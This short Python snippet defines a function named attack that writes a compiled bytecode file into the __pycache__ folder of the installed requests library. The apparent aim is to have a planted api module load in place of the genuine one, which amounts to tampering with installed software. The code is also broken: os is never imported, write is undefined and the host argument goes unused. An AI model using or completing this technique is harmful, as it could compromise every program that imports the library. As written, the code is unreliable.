"""Writing the compiled form of a package."""

import requests


def attack(host):
    os.makedirs(os.path.dirname(requests.__file__) + "/__pycache__", exist_ok=True)
    return write(os.path.dirname(requests.__file__) + "/__pycache__/api.cpython-311.pyc")
